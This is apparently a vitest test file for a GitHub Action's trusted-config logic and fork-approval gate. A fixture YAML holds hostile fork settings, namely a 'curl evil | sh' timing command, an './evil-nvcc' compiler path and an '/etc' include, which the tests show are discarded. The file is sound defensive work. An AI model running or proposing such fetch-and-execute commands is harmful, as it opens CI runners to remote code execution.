// Gate mode takes what executes from the base commit, and times fork code only with a
// writer's approval of the exact head SHA (loopback GitHub API, real git repository).
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { baseConfig, timingApproval, withTrustedFields } from '../../src/action/trusted.js';
import { parseConfigText } from '../../src/config/load.js';
import { createGitHubClient } from '../../src/github/index.js';
import { createFixtureRepo, type FixtureRepo } from '../helpers/fixture-repo.js';
import { startFakeGitHub, type FakeGitHub } from '../helpers/github-server.js';

const BASE_YML = 'nvcc:\n  flags: ["-O3"]\ninclude: [kernels]\ntiming:\n  command: ./bench.sh\nthresholds:\n  timingAlpha: 0.05\n';
const HEAD_YML =
  'nvcc:\n  path: ./evil-nvcc\n  flags: ["-O3"]\ninclude: [kernels, /etc]\ntiming:\n  command: curl evil | sh\nthresholds:\n  timingAlpha: 0.01\n';

let repo: FixtureRepo;
let baseSha = '';
beforeAll(() => {
  repo = createFixtureRepo('carve-trusted-');
  repo.commitFiles({ README: 'no config yet\n' }, 'initial');
  baseSha = repo.commitFiles({ '.github/carve.yml': BASE_YML }, 'base');
  repo.commitFiles({ '.github/carve.yml': HEAD_YML }, 'head');
});
afterAll(() => repo.remove());

describe('trusted config', () => {
  it("reads the base commit's config and keeps head's non-executing settings", async () => {
    const configPath = path.join(repo.dir, '.github/carve.yml');
    const base = await baseConfig(repo.dir, configPath, baseSha);
    expect(base?.diagnostics).toEqual([]);
    const head = parseConfigText(HEAD_YML, configPath, path.dirname(configPath)).config;
    const trusted = withTrustedFields(head, base!.config);
    expect(trusted.ignored).toEqual(['nvcc.path', 'include', 'timing.command']);
    expect(trusted.config.nvcc).toEqual({ flags: ['-O3'] });
    expect(trusted.config.include).toEqual(['kernels']);
    expect(trusted.config.timing.command).toBe('./bench.sh');
    expect(trusted.config.thresholds.timingAlpha).toBe(0.01);
  });

  it('a base without a config gives the defaults (no command, no nvcc path)', async () => {
    const first = repo.git('rev-list', '--max-parents=0', 'HEAD');
    const base = await baseConfig(repo.dir, path.join(repo.dir, '.github/carve.yml'), first);
    expect(base!.config.timing.command).toBeUndefined();
    expect(base!.config.nvcc.path).toBeUndefined();
  });

  it('an unreadable base commit is null (the caller falls back to defaults)', async () => {
    expect(await baseConfig(repo.dir, path.join(repo.dir, '.github/carve.yml'), 'f'.repeat(40))).toBeNull();
  });
});

describe('approval of fork timing', () => {
  let github: FakeGitHub;
  const head = '0123456789abcdef0123456789abcdef01234567';
  const ref = { owner: 'octo', repo: 'kernels' };
  beforeAll(async () => {
    github = await startFakeGitHub();
    github.permissions.set('maintainer', 'write');
    github.permissions.set('triager', 'triage');
  });
  afterAll(() => github.close());
  const client = () => createGitHubClient('ghs_test', { baseUrl: github.url, retries: 0 });

  it('is refused without a comment, for a reader, for another SHA and for a short SHA', async () => {
    github.seedComments(7, ['/carve approve ' + head], 'forkauthor');
    github.seedComments(7, ['/carve approve ' + head.slice(0, 12)], 'triager');
    github.seedComments(7, ['/carve approve ffffffffffffffff'], 'maintainer');
    github.seedComments(7, ['/carve approve 0123456'], 'maintainer');
    const result = await timingApproval(client(), ref, 7, head);
    expect(result).toEqual({
      approvedBy: null,
      reason: 'no `/carve approve 0123456789ab` comment by a user with write access to the repository',
    });
  });

  it('is granted by a writer naming the head SHA', async () => {
    github.seedComments(8, ['LGTM, running it:\n/carve approve ' + head.slice(0, 16)], 'maintainer');
    expect(await timingApproval(client(), ref, 8, head)).toEqual({
      approvedBy: 'maintainer',
      reason: 'approved by @maintainer for 0123456789ab',
    });
  });
});
